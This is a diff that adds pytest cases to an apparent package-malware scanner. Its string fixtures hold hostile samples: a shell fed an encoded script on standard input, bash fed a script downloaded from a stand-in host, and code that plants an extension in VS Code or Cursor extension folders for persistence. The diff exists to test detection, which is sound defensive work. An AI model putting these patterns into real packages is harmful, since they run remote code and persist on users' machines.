@@ -1802,3 +1802,66 @@ def test_a_patched_library_function_whose_helper_only_logs_is_no_threat() -> Non
         assert not {
             r for r in danger(source, "shim/__init__.py", mode=mode) if r.startswith("CPL-THR")
         }
+
+
+# -- blind18: a shell given its script on standard input (b18-ds-sh-stdin-input) -------------
+
+
+@pytest.mark.parametrize(
+    ("source", "rule"),
+    [
+        (
+            "import base64, subprocess\n"
+            "subprocess.run(['/bin/sh'], "
+            f"input=base64.b32decode({base64.b32encode(b'id').decode()!r}))\n",
+            "CPL-THR-001",
+        ),
+        (
+            "import subprocess, urllib.request\n"
+            "p = subprocess.Popen(['bash', '-s'], stdin=subprocess.PIPE)\n"
+            "p.communicate(urllib.request.urlopen('https://x.example/s').read())\n",
+            "CPL-THR-002",
+        ),
+    ],
+)
+def test_a_shell_fed_a_decoded_or_downloaded_script_on_stdin_runs_it(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str, rule: str
+) -> None:
+    found_in_a_package(tmp_path, monkeypatch, source, rule)
+
+
+def test_a_shell_fed_a_script_of_the_package_or_literal_text_stays_clean() -> None:
+    assert not danger(
+        "import subprocess\nsubprocess.run(['bash'], input='echo hello\\n', text=True)\n"
+        "with open('setup.sh') as fh:\n"
+        "    subprocess.run(['/bin/sh', '-s'], input=fh.read(), text=True)\n"
+    )
+
+
+# -- blind18: an extension planted in an editor's extensions folder (b18-np-vscode-extension-drop)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import os, shutil\nsrc = os.path.join(os.path.dirname(__file__), 'ext')\n"
+        "dst = os.path.join(os.path.expanduser('~'), '.vscode', 'extensions', 'ms-python.x-0.1')\n"
+        "shutil.copytree(src, dst)\n",
+        "from pathlib import Path\n"
+        "d = Path.home() / '.cursor' / 'extensions' / 'pub.helper-1.0'\n"
+        "d.mkdir(parents=True)\n(d / 'extension.js').write_text(JS)\n",
+    ],
+)
+def test_an_extension_planted_in_an_editors_extensions_folder_is_persistence(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-009")
+
+
+def test_a_projects_editor_settings_and_a_copied_build_folder_stay_clean() -> None:
+    assert not danger(
+        "import json, os, shutil\nos.makedirs('.vscode', exist_ok=True)\n"
+        "with open(os.path.join('.vscode', 'settings.json'), 'w') as fh:\n"
+        "    json.dump({'python.analysis.typeCheckingMode': 'strict'}, fh)\n"
+        "shutil.copytree('templates', os.path.join('build', 'templates'))\n"
+    )
